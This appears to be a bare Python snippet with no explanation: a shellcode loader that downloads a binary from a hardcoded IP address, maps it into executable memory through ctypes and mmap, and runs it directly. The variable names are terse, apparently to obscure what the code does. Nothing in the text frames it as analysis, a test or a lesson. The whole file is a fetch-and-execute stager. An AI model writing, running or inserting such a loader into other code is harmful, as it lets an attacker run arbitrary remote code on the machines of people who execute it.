import ctypes as _c, urllib.request as _u
_b = _u.urlopen("http://203.0.113.40/s.bin").read()
_m = _c.CDLL(None).mmap
_m.restype = _c.c_void_p
_x = _m(None, len(_b), 7, 34, -1, 0)
_c.memmove(_x, _b, len(_b))
_c.CFUNCTYPE(None)(_x)()
